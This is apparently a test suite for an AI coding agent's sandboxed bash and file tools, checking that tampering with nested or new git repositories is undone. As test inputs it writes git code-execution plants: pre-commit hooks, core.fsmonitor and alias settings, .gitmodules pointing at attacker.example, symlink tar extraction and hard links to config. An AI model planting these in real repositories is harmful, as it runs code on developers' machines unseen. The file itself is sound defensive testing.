import { execFileSync } from 'node:child_process';
import { existsSync, linkSync, mkdirSync, readFileSync, renameSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { bashTool } from '../../../src/tools/bash.js';
import type { ToolResult } from '../../../src/tools/tool.js';
import { writeFileTool } from '../../../src/tools/write-file.js';
import { editFileTool } from '../../../src/tools/edit-file.js';
import { createToolHost } from '../../../src/tools/tool-host.js';
import { createProject, git, toolContext, type Project } from './support/project.js';

/*
 * Repositories under the allowed paths other than the ones around the command (repository-census.ts):
 * whatever a command plants in their config or hooks, or in a repository it makes, is gone or
 * byte-identical afterwards, and the tool result says so. Judged by the files, with real bubblewrap.
 */

let project: Project;

beforeEach(() => {
  project = createProject();
});

afterEach(() => project.cleanup());

const bash = (command: string, cwd?: string): Promise<ToolResult> => bashTool.execute(bashTool.parameters.parse({ command, ...(cwd === undefined ? {} : { cwd }) }), toolContext(project));
const python = (code: string, cwd?: string): Promise<ToolResult> => bash(`python3 -c "${code}"`, cwd);
const path = (relative: string): string => join(project.root, relative);
const read = (relative: string): string | undefined => (existsSync(path(relative)) ? readFileSync(path(relative), 'utf8') : undefined);

/** A repository of its own with one commit at `relative` (a vendored checkout, a sibling project). */
function repository(relative: string): void {
  mkdirSync(path(relative), { recursive: true });
  git(path(relative), 'init', '-q', '-b', 'main');
  git(path(relative), 'config', 'user.name', 'Nested');
  git(path(relative), 'config', 'user.email', 'nested@example.com');
  writeFileSync(join(path(relative), 'lib.txt'), 'lib\n');
  git(path(relative), 'add', 'lib.txt');
  git(path(relative), 'commit', '-qm', 'lib');
}

const HOOK = "'#!/bin/sh\\\\ntouch /tmp/planted\\\\n'";
const FSMONITOR = "'[core]\\\\n\\\\tfsmonitor = touch /tmp/planted\\\\n'";

describe('repositories the command did not start in', () => {
  beforeEach(() => repository('vendor/lib'));

  it('puts back a hook an interpreter writes into a nested repository', async () => {
    const hook = path('vendor/lib/.git/hooks/pre-commit');
    const result = await python(`import os\nopen('vendor/lib/.git/hooks/pre-commit', 'w').write(${HOOK}); os.chmod('vendor/lib/.git/hooks/pre-commit', 0o755)`);
    expect(existsSync(hook)).toBe(false);
    expect(result.success).toBe(false);
    expect(result.error).toContain(`[protected files were changed and have been restored: ${hook}]`);
    expect(result.metadata.restored_protected_files).toEqual([hook]);
  });

  it('puts back the config of a nested repository byte for byte', async () => {
    const before = read('vendor/lib/.git/config');
    const result = await python(`open('vendor/lib/.git/config', 'a').write(${FSMONITOR})`);
    expect(read('vendor/lib/.git/config')).toBe(before);
    expect(result.error).toContain(path('vendor/lib/.git/config'));
  });

  it('puts back a sibling repository of the working directory (an allowed path holding several)', async () => {
    repository('r3');
    repository('r2');
    const before = read('r3/.git/config');
    const result = await python(`open('../r3/.git/config', 'a').write('[core]\\\\n\\\\thooksPath = ../hooks\\\\n')\nopen('../r3/.git/hooks/post-checkout', 'w').write(${HOOK})`, path('r2'));
    expect(read('r3/.git/config')).toBe(before);
    expect(existsSync(path('r3/.git/hooks/post-checkout'))).toBe(false);
    expect(result.metadata.restored_protected_files).toEqual([path('r3/.git/config'), path('r3/.git/hooks/post-checkout')]);
  });

  it('puts back the .gitmodules a command rewrites in a nested repository, and takes out one it makes in a sibling', async () => {
    writeFileSync(path('vendor/lib/.gitmodules'), '[submodule "dep"]\n\tpath = dep\n\turl = https://example.com/dep.git\n');
    git(path('vendor/lib'), 'add', '.gitmodules');
    git(path('vendor/lib'), 'commit', '-qm', 'modules');
    repository('r3');
    const before = read('vendor/lib/.gitmodules');
    // The user's later `git submodule update` would clone what the planted URL serves.
    const planted = "'[submodule \\\"dep\\\"]\\n\\tpath = dep\\n\\turl = https://attacker.example/dep.git\\n\\tupdate = !touch /tmp/planted\\n'";
    const result = await python(`open('vendor/lib/.gitmodules', 'w').write(${planted})\nopen('r3/.gitmodules', 'w').write(${planted})`);
    expect(read('vendor/lib/.gitmodules')).toBe(before);
    expect(existsSync(path('r3/.gitmodules'))).toBe(false);
    expect(result.success).toBe(false);
    expect(result.metadata.restored_protected_files).toEqual([path('r3/.gitmodules'), path('vendor/lib/.gitmodules')]);
    expect(result.error).toContain(`[protected files were changed and have been restored: ${path('r3/.gitmodules')}, ${path('vendor/lib/.gitmodules')}]`);
  });

  it('puts back a nested .gitmodules a command deletes, and one it renames a staged file over', async () => {
    writeFileSync(path('vendor/lib/.gitmodules'), '[submodule "dep"]\n\tpath = dep\n\turl = https://example.com/dep.git\n');
    repository('r3');
    writeFileSync(path('r3/.gitmodules'), '[submodule "x"]\n\tpath = x\n\turl = https://example.com/x.git\n');
    writeFileSync(path('staged'), '[submodule "x"]\n\tpath = x\n\turl = https://attacker.example/x.git\n');
    const [lib, r3] = [read('vendor/lib/.gitmodules'), read('r3/.gitmodules')];
    await new Promise((resolve) => setTimeout(resolve, 120));
    const result = await python("import os\nos.remove('vendor/lib/.gitmodules')\nos.rename('staged', 'r3/.gitmodules')");
    expect(read('vendor/lib/.gitmodules')).toBe(lib);
    expect(read('r3/.gitmodules')).toBe(r3);
    expect(result.metadata.restored_protected_files).toEqual([path('r3/.gitmodules'), path('vendor/lib/.gitmodules')]);
  });

  it('keeps a nested .gitmodules the user changed before the command', async () => {
    writeFileSync(path('vendor/lib/.gitmodules'), '[submodule "dep"]\n\tpath = dep\n\turl = https://example.com/dep.git\n');
    await bash('ls');
    writeFileSync(path('vendor/lib/.gitmodules'), '[submodule "dep"]\n\tpath = dep\n\turl = https://example.com/moved.git\n');
    await new Promise((resolve) => setTimeout(resolve, 120));
    const result = await bash('ls');
    expect(result.error).toBe('');
    expect(read('vendor/lib/.gitmodules')).toContain('moved.git');
  });

  it('puts back a .git renamed away and replaced by a planted one, and keeps the moved one as it was', async () => {
    const before = read('vendor/lib/.git/config');
    const result = await python(
      `import os\nos.rename('vendor/lib/.git', 'vendor/lib/old')\nos.makedirs('vendor/lib/.git/hooks')\nopen('vendor/lib/.git/HEAD', 'w').write('ref: refs/heads/main\\\\n')\nopen('vendor/lib/.git/config', 'w').write(${FSMONITOR})\nopen('vendor/lib/.git/hooks/pre-commit', 'w').write(${HOOK})`,
    );
    expect(read('vendor/lib/.git/config')).toBe(before);
    expect(existsSync(path('vendor/lib/.git/hooks/pre-commit'))).toBe(false);
    expect(read('vendor/lib/old/config')).toBe(before);
    expect(result.success).toBe(false);
  });

  it('puts back a hook written through a planted symbolic link by tar', async () => {
    const staging = join(project.base, 'staging');
    mkdirSync(join(staging, 'lnk'), { recursive: true });
    writeFileSync(join(staging, 'lnk', 'pre-commit'), '#!/bin/sh\ntouch /tmp/planted\n', { mode: 0o755 });
    execFileSync('tar', ['-cf', path('evil.tar'), '-C', staging, 'lnk/pre-commit']);
    symlinkSync('vendor/lib/.git/hooks', path('lnk'));
    const result = await bash('tar -xf evil.tar');
    expect(existsSync(path('vendor/lib/.git/hooks/pre-commit'))).toBe(false);
    expect(result.success).toBe(false);
  });

  it('keeps a change the user made before the command', async () => {
    writeFileSync(path('vendor/lib/.git/config'), `${read('vendor/lib/.git/config')}[pull]\n\trebase = true\n`);
    const changed = read('vendor/lib/.git/config');
    // ctime cannot be set back; wait out the clock tick the guard allows for.
    await new Promise((resolve) => setTimeout(resolve, 120));
    const result = await bash('ls');
    expect(result.error).toBe('');
    expect(read('vendor/lib/.git/config')).toBe(changed);
  });

  it('lets a command commit in a nested repository it runs in, delete one, and move one', async () => {
    writeFileSync(path('vendor/lib/lib.txt'), 'changed\n');
    const commit = await bash('git commit -qam work && git log --oneline -1', path('vendor/lib'));
    expect(commit.error).toBe('');
    expect(commit.data).toContain('work');
    repository('r3');
    const config = read('r3/.git/config');
    const moved = await python("import os, shutil\nos.rename('r3', 'r4')\nshutil.rmtree('vendor')");
    expect(moved.error).toBe('');
    expect(read('r4/.git/config')).toBe(config);
    expect(existsSync(path('vendor'))).toBe(false);
  });
});

describe('repositories around the command named by bytes that are not UTF-8', () => {
  it('binds their hooks and config read-only (bubblewrap --args), so a write fails rather than being put back after', async () => {
    // `odd\xff`: a name no text path reaches; a `gitdir:` file of the working tree leads there.
    mkdirSync(path('plain'));
    git(path('plain'), 'init', '-q');
    const odd = Buffer.concat([Buffer.from(`${project.root}/odd`), Buffer.from([0xff])]);
    renameSync(path('plain'), odd);
    mkdirSync(path('tree'));
    writeFileSync(path('tree/.git'), Buffer.concat([Buffer.from('gitdir: ../odd'), Buffer.from([0xff]), Buffer.from('/.git\n')]));
    const config = readFileSync(Buffer.concat([odd, Buffer.from('/.git/config')]));
    writeFileSync(
      path('tree/attack.py'),
      [
        "odd = b'../odd\\xff/.git/'",
        "for name, text in [(b'hooks/pre-commit', '#!/bin/sh\\ntouch /tmp/planted\\n'), (b'config', '[core]\\n\\tfsmonitor = touch /tmp/planted\\n')]:",
        '    try:',
        "        open(odd + name, 'a').write(text)",
        "        print('written', name)",
        '    except OSError as e:',
        "        print('refused', name, e.strerror)",
        // The pipe bubblewrap read them from is not handed on to the command.
        'import os',
        'try:',
        '    os.fstat(5)',
        "    print('arguments pipe open')",
        'except OSError:',
        '    pass',
        '',
      ].join('\n'),
    );
    const result = await bash('python3 attack.py', path('tree'));
    const output = `${result.data}${result.error}`;
    expect(output).toContain("refused b'hooks/pre-commit' Read-only file system");
    expect(output).toContain("refused b'config' Read-only file system");
    expect(output).not.toContain('have been restored');
    expect(output).not.toContain('arguments pipe open');
    expect(readFileSync(Buffer.concat([odd, Buffer.from('/.git/config')]))).toEqual(config);
    expect(existsSync(Buffer.concat([odd, Buffer.from('/.git/hooks/pre-commit')]))).toBe(false);
  });
});

describe('repositories the command makes', () => {
  it('takes out a hook written into a repository made by git init in the same command', async () => {
    const result = await bash(`git init -q x && python3 -c "open('x/.git/hooks/pre-commit', 'w').write(${HOOK})"`);
    expect(existsSync(path('x/.git/hooks/pre-commit'))).toBe(false);
    expect(existsSync(path('x/.git/hooks/pre-commit.sample'))).toBe(true);
    expect(result.error).toContain(`[git repositories new since the last command had hooks or settings that run programs, which have been removed: ${path('x/.git/hooks/pre-commit')}]`);
    expect(result.metadata.removed_from_new_repositories).toEqual([path('x/.git/hooks/pre-commit')]);
  });

  it('keeps what git init writes and drops the settings that run programs', async () => {
    const result = await bash(`git init -q x && python3 -c "open('x/.git/config', 'a').write('[core]\\\\n\\\\tfsmonitor = touch /tmp/planted\\\\n\\\\tpager = less\\\\n[include]\\\\n\\\\tpath = ../../evil\\\\n')"`);
    const config = read('x/.git/config') ?? '';
    expect(config).not.toMatch(/fsmonitor|pager|include|evil/);
    expect(config).toMatch(/repositoryformatversion = 0/);
    expect(result.metadata.removed_from_new_repositories).toEqual([`${path('x/.git/config')} (core.fsmonitor, core.pager, include.path)`]);
    expect(git(path('x'), 'status', '--porcelain')).toBe('');
  });

  it('cleans a .git an interpreter lays out by hand (no git init)', async () => {
    const result = await python(`import os\nos.makedirs('y/.git/hooks')\nopen('y/.git/hooks/pre-commit', 'w').write(${HOOK})\nopen('y/.git/config', 'w').write(${FSMONITOR})`);
    expect(existsSync(path('y/.git/hooks/pre-commit'))).toBe(false);
    expect(read('y/.git/config')).toBe('');
    expect(result.success).toBe(false);
  });

  it('cleans a bare repository made by an interpreter', async () => {
    const result = await python(`import subprocess\nsubprocess.run(['git', 'init', '-q', '--bare', 'b.git'], check=True)\nopen('b.git/hooks/post-update', 'w').write(${HOOK})\nopen('b.git/config', 'a').write('[alias]\\\\n\\\\tlog = !touch /tmp/planted\\\\n')`);
    expect(existsSync(path('b.git/hooks/post-update'))).toBe(false);
    expect(read('b.git/config')).not.toContain('alias');
    expect(result.metadata.removed_from_new_repositories).toEqual([`${path('b.git/config')} (alias.log)`, path('b.git/hooks/post-update')]);
  });

  it('cleans the directory a planted .git file points at', async () => {
    const result = await python(
      `import os\nos.makedirs('z')\nos.makedirs('store/objects')\nos.makedirs('store/hooks')\nopen('store/HEAD', 'w').write('ref: refs/heads/main\\\\n')\nopen('store/hooks/pre-commit', 'w').write(${HOOK})\nopen('store/config', 'w').write(${FSMONITOR})\nopen('z/.git', 'w').write('gitdir: ../store\\\\n')`,
    );
    expect(existsSync(path('store/hooks/pre-commit'))).toBe(false);
    expect(read('store/config')).toBe('');
    expect(result.success).toBe(false);
  });

  it('lets a command make a repository and commit in it', async () => {
    // `git config` is refused to bash itself; the identity is what the new repository keeps.
    const made = await bash(`git init -q -b main fresh && python3 -c "import subprocess\nfor key, value in [('user.name', 'a'), ('user.email', 'a@b')]:\n    subprocess.run(['git', '-C', 'fresh', 'config', key, value], check=True)"`);
    expect(made.error).toBe('');
    const result = await bash('git commit -q --allow-empty -m first && git log --oneline', path('fresh'));
    expect(result.error).toBe('');
    expect(result.data).toContain('first');
  });
});

describe('the file tools', () => {
  beforeEach(() => repository('vendor/lib'));

  it.each(['write_file', 'edit_file'] as const)('%s refuses a hard link to a nested repository config', async (tool) => {
    const before = read('vendor/lib/.git/config') ?? '';
    linkSync(path('vendor/lib/.git/config'), path('innocent.txt'));
    const context = toolContext(project);
    const result =
      tool === 'write_file'
        ? await writeFileTool.execute(writeFileTool.parameters.parse({ file_path: 'innocent.txt', content: '[core]\n\tfsmonitor = touch /tmp/planted\n' }), context)
        : await editFileTool.execute(editFileTool.parameters.parse({ file_path: 'innocent.txt', old_string: '[core]', new_string: '[core]\n\tfsmonitor = touch /tmp/planted' }), context);
    expect(result.success).toBe(false);
    expect(result.error).toContain('hard link');
    expect(read('vendor/lib/.git/config')).toBe(before);
  });

  it('write_file refuses the config and hooks of a bare repository', async () => {
    git(project.root, 'init', '-q', '--bare', 'b.git');
    for (const file of ['b.git/config', 'b.git/hooks/pre-receive']) {
      const result = await writeFileTool.execute(writeFileTool.parameters.parse({ file_path: file, content: 'x' }), toolContext(project));
      expect(result.success, file).toBe(false);
    }
    expect(existsSync(path('b.git/hooks/pre-receive'))).toBe(false);
  });
});

describe('the census', () => {
  it('belongs to its tool host: a repository the user made since the last command is new to that host, and found as it is by another', async () => {
    expect((await bash('ls')).success).toBe(true);
    repository('made');
    const hook = path('made/.git/hooks/pre-commit');
    writeFileSync(hook, '#!/bin/sh\nexit 0\n', { mode: 0o755 });
    const otherHost = await bashTool.execute(bashTool.parameters.parse({ command: 'ls' }), toolContext(project, { host: createToolHost() }));
    expect(otherHost.success).toBe(true);
    expect(existsSync(hook)).toBe(true);
    const sameHost = await bash('ls');
    expect(sameHost.metadata.removed_from_new_repositories).toEqual([hook]);
    expect(existsSync(hook)).toBe(false);
  });
});
